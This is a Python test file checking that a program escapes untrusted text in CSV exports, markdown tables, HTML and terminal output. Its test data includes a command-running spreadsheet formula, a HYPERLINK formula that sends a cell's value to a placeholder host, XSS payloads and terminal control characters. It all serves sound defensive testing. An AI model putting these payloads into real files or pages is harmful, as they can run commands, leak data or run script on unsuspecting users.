"""What programs, spreadsheets and the UI read of text that somebody else wrote."""

import io
import json
from decimal import Decimal

import pandas as pd
import pytest

from assets.metadata import table
from orchestration import console
from orchestration.console import machine, out, tamed

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\tx",
    "\rx",
    "\n=1",
    "＝1+1",
    "-",
    "+A",
    "-1e5x",
    "-١٢",
]
HARMLESS = ["", "AAPL", "-3", "+3", "-1.5e-7", "+.5", "-3.", "a=b", " =1", "'=1", "1-2", "2024-01-05", "[-1, 2]", "é"]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_becomes_text(text):
    assert tamed(pd.Series([text], dtype="str")).tolist() == ["'" + text]
    assert tamed(pd.Series([text, None, 1.5, Decimal("-2")], dtype="object")).tolist()[0] == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_everything_else_stays_as_it_is(text):
    assert tamed(pd.Series([text], dtype="str")).tolist() == [text]


def test_csv_tames_text_and_leaves_numbers_and_json_alone(capsys):
    frame = pd.DataFrame(
        {
            "instrument": pd.Series(["=1+1", "AAPL"], dtype="str"),
            "value": pd.Series(["-3", "@x"], dtype="str"),
            "quantity": [-1.5, 1e300],
            "exact": pd.Series([Decimal("-10.1234567890123456789"), None], dtype="object"),
            "day": pd.to_datetime(["2024-01-05", None]),
            "ok": [True, False],
        }
    )
    machine(frame, "csv")
    assert capsys.readouterr().out == (
        "instrument,value,quantity,exact,day,ok\n"
        "'=1+1,-3,-1.5,-10.1234567890123456789,2024-01-05,True\n"
        "AAPL,'@x,1e+300,,,False\n"
    )
    machine(frame, "json")
    assert [row["instrument"] for row in json.load(io.StringIO(capsys.readouterr().out))] == ["=1+1", "AAPL"]
    assert frame["instrument"][0] == "=1+1"


def test_text_in_the_ui_is_no_markdown():
    hostile = "![x](http://x.example/p.png)|<img src=x onerror=alert(1)>\n# `www.x.example` a@b"
    shown = table(pd.DataFrame({"name": pd.Series([hostile], dtype="str"), "n": [-1.5]})).value
    assert shown.splitlines()[2] == (
        r"| \!\[x\]\(http\://x\.example/p\.png\)\|\<img src=x onerror=alert\(1\)\> \# \`www\.x\.example\` a\@b | -1.5 |"
    )
    assert table(pd.DataFrame({"name": []}), "nothing new").value == "nothing new"


def test_text_in_the_pack_is_no_html():
    from daybook.pack.grids import named

    assert str(named("<script>alert(1)</script>", "<b>")) == (
        '&lt;script&gt;alert(1)&lt;/script&gt; <span class="id">&lt;b&gt;</span>'
    )


def test_a_terminal_shows_what_others_wrote_and_does_not_obey_it():
    with out.capture() as printed:
        out.print("break cash:A:USD, 1\x1b[2K\u202e2, [red]no[/red]\nÜ 李", markup=False)
    assert printed.get() == "break cash:A:USD, 1\\x1b[2K\\u202e2, [red]no[/red]\nÜ 李\n"


def test_what_somebody_types_again_is_not_folded():
    name = "position:US-CORE:LLY:2022-12-27"
    rows = pd.DataFrame({"id": [name], "reason": ["said at length " * 40]})
    with out.capture() as printed:
        console.table("breaks", rows, whole=("id",))
    assert name in printed.get()
